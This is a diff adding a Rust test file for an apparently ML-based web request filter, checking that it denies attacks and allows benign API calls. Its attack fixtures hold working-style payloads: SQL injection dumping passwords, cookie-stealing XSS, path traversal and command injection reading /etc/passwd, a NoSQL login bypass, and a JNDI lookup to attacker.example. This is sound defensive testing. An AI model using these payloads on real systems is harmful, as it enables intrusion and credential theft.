@@ -1,0 +1,175 @@
+//! The shipped model through the same engine the filter runs, on real-looking requests.
+
+use apiward::config::{Config, ModelSource};
+use apiward::corpus::RequestRecord;
+use apiward::engine::Engine;
+use apiward::model::{sha256_hex, ModelMetadata, EMBEDDED_METADATA, EMBEDDED_ONNX};
+use apiward::policy::Action;
+
+fn engine(config_json: &str) -> Engine {
+    Engine::new(Config::from_json(config_json.as_bytes()).unwrap()).unwrap()
+}
+
+fn decide(engine: &Engine, record_json: &str) -> apiward::policy::Decision {
+    let record = RequestRecord::from_json(record_json).unwrap();
+    let view = record.to_view(engine.config().max_body_bytes).unwrap();
+    let policy = engine.route(&view.path);
+    engine.evaluate(&view, &policy).unwrap().decision
+}
+
+const ATTACKS: &[(&str, &str, &str)] = &[
+    (
+        "sqli",
+        r#"{"uri":"/api/search?q=1%27%20UNION%20SELECT%20username%2C%20password%20FROM%20users--"}"#,
+        "query:q",
+    ),
+    (
+        "xss",
+        r#"{"method":"POST","uri":"/api/orders","headers":{"content-type":"application/json"},"body":"{\"sku\":\"BK-1\",\"note\":\"<img src=x onerror=alert(document.cookie)>\"}"}"#,
+        "json:$.note",
+    ),
+    (
+        "path_traversal",
+        r#"{"uri":"/api/files/..%2F..%2F..%2F..%2Fetc%2Fpasswd"}"#,
+        "path",
+    ),
+    (
+        "cmdi",
+        r#"{"method":"POST","uri":"/api/comments","headers":{"content-type":"application/x-www-form-urlencoded"},"body":"author=bob&text=nice%3B%20cat%20%2Fetc%2Fpasswd"}"#,
+        "form:text",
+    ),
+    (
+        "nosqli",
+        r#"{"method":"POST","uri":"/api/login","headers":{"content-type":"application/json"},"body":"{\"username\":\"admin\",\"password\":{\"$ne\":null}}"}"#,
+        "json:$.password",
+    ),
+    (
+        "jndi",
+        r#"{"uri":"/api/users/2","headers":{"user-agent":"${jndi:ldap://attacker.example:1389/a}"}}"#,
+        "header:user-agent",
+    ),
+];
+
+const BENIGN: &[&str] = &[
+    r#"{"uri":"/api/users/2?fields=name,email","headers":{"user-agent":"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36"}}"#,
+    r#"{"uri":"/api/search?q=select%20your%20plan&sort=-created_at&page=2"}"#,
+    r#"{"method":"POST","uri":"/api/orders","headers":{"content-type":"application/json"},"body":"{\"user_id\":2,\"sku\":\"BK-0042\",\"quantity\":2,\"shipping\":{\"city\":\"Lyon\",\"zip\":\"69002\",\"notes\":\"Drop-off at the back door, please.\"}}"}"#,
+    r#"{"method":"POST","uri":"/api/comments","headers":{"content-type":"application/x-www-form-urlencoded"},"body":"author=Alan&text=Thanks%2C+the+delivery+was+quick%21"}"#,
+    r#"{"uri":"/api/files/reports/2024/q1-summary.pdf"}"#,
+];
+
+#[test]
+fn shipped_model_matches_its_metadata_checksum_and_schema() {
+    let metadata = ModelMetadata::from_json(EMBEDDED_METADATA).unwrap();
+    assert_eq!(
+        metadata.onnx_sha256.as_deref(),
+        Some(sha256_hex(EMBEDDED_ONNX).as_str())
+    );
+    metadata.verify(EMBEDDED_ONNX).unwrap();
+}
+
+#[test]
+fn attacks_are_denied_in_enforce_mode_with_class_and_location() {
+    let engine = engine(r#"{"mode":"enforce"}"#);
+    for (class, record, location) in ATTACKS {
+        let d = decide(&engine, record);
+        assert_eq!(d.action, Action::Deny, "{class}: {d}");
+        assert!(d.blocks(), "{class}: {d}");
+        assert_eq!(d.class, *class, "{d}");
+        assert!(
+            d.reasons[0].ends_with(&format!("at {location}")),
+            "{class}: {d}"
+        );
+    }
+}
+
+#[test]
+fn benign_api_calls_are_allowed() {
+    let engine = engine(r#"{"mode":"enforce"}"#);
+    for record in BENIGN {
+        let d = decide(&engine, record);
+        assert_eq!(d.action, Action::Allow, "{record}: {d}");
+        assert!(!d.blocks());
+    }
+}
+
+#[test]
+fn monitor_mode_decides_the_same_but_never_blocks() {
+    let engine = engine("{}");
+    for (_, record, _) in ATTACKS {
+        let d = decide(&engine, record);
+        assert_eq!(d.action, Action::Deny);
+        assert!(!d.blocks());
+    }
+}
+
+#[test]
+fn route_overrides_and_skip_apply_but_dot_segments_defeat_skip() {
+    let engine = engine(
+        r#"{"mode":"enforce","routes":[{"prefix":"/healthz","skip":true},{"prefix":"/api/search","mode":"monitor"},{"prefix":"/api/files","thresholds":{"deny":1.0}}]}"#,
+    );
+    assert!(engine.route("/healthz/live").skip);
+    assert!(!engine.route("/healthz/../api/admin").skip);
+    assert!(!engine.route("/healthz/%2e%2e/api/admin").skip);
+    let d = decide(&engine, ATTACKS[0].1);
+    assert_eq!(d.action, Action::Deny);
+    assert!(!d.blocks(), "monitor route");
+    let d = decide(&engine, ATTACKS[2].1);
+    assert_ne!(
+        d.action,
+        Action::Deny,
+        "deny threshold 1.0 on /api/files: {d}"
+    );
+}
+
+#[test]
+fn inline_model_is_loaded_and_a_wrong_checksum_is_rejected_naming_model() {
+    use base64::Engine as _;
+    let b64 = base64::engine::general_purpose::STANDARD.encode(EMBEDDED_ONNX);
+    let cfg = format!(
+        r#"{{"model":{{"source":"inline","onnx_base64":"{b64}","metadata":{EMBEDDED_METADATA}}}}}"#
+    );
+    let config = Config::from_json(cfg.as_bytes()).unwrap();
+    assert!(matches!(config.model, ModelSource::Inline { .. }));
+    Engine::new(config).unwrap();
+
+    let mut metadata: serde_json::Value = serde_json::from_str(EMBEDDED_METADATA).unwrap();
+    metadata["onnx_sha256"] = "00".repeat(32).into();
+    let cfg =
+        format!(r#"{{"model":{{"source":"inline","onnx_base64":"{b64}","metadata":{metadata}}}}}"#);
+    let err = Engine::new(Config::from_json(cfg.as_bytes()).unwrap())
+        .err()
+        .expect("checksum mismatch must be refused")
+        .to_string();
+    assert!(
+        err.starts_with("model: ") && err.contains("sha256"),
+        "{err}"
+    );
+}
+
+#[test]
+fn thresholds_are_checked_against_the_model_defaults() {
+    // annotate above the model's default deny threshold: only detectable at load.
+    let metadata = ModelMetadata::from_json(EMBEDDED_METADATA).unwrap();
+    let annotate = (metadata.thresholds.deny + 1.0) / 2.0;
+    let cfg = format!(r#"{{"thresholds":{{"annotate":{annotate}}}}}"#);
+    let err = Engine::new(Config::from_json(cfg.as_bytes()).unwrap())
+        .err()
+        .expect("annotate above deny must be refused")
+        .to_string();
+    assert!(err.starts_with("thresholds: "), "{err}");
+}
+
+#[test]
+fn oversized_body_is_scored_on_its_prefix_and_says_so() {
+    let engine = engine(r#"{"max_body_bytes":1024}"#);
+    let body = format!("{{\"note\":\"{}\"}}", "lorem ipsum ".repeat(1000));
+    let record = serde_json::json!({"method":"POST","uri":"/api/notes","headers":{"content-type":"application/json"},"body":body});
+    let d = decide(&engine, &record.to_string());
+    assert!(
+        d.reasons
+            .iter()
+            .any(|r| r.starts_with("body truncated: first 1024 bytes")),
+        "{d}"
+    );
+}
